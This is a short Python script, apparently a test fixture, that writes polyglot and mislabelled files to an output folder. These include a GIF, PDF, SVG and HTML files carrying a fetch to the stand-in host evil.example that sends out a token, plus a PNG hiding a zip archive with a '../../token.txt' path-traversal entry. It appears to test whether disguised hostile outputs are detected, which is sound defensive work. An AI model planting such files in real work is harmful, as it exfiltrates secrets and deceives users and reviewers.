"""Two things at once."""
import io
import zipfile

from planted import OUTPUT, token, write_scores

write_scores()
script = f'fetch("http://evil.example/{token()}")'.encode()
inner = io.BytesIO()
with zipfile.ZipFile(inner, 'w') as archive:
    archive.writestr('../../token.txt', token())
files = {
    'picture.gif': b'GIF89a/*' + b'\x00' * 20 + b'*/=0;' + script,
    'document.pdf': b'%PDF-1.4\n<html><script>' + script + b'</script></html>\n%%EOF',
    'picture-and-archive.png': b'\x89PNG\r\n\x1a\n' + b'\x00' * 32 + inner.getvalue(),
    'scores.json.html': b'<script>' + script + b'</script>',
    'plot.png': b'<svg xmlns="http://www.w3.org/2000/svg" onload=\'' + script + b'\'/>',
    'log.txt': b'MZ' + script,
    'detailed_results.html': b'%PDF-1.4\n' + script,
}
for name, content in files.items():
    with open(f'{OUTPUT}/{name}', 'wb') as file:
        file.write(content)
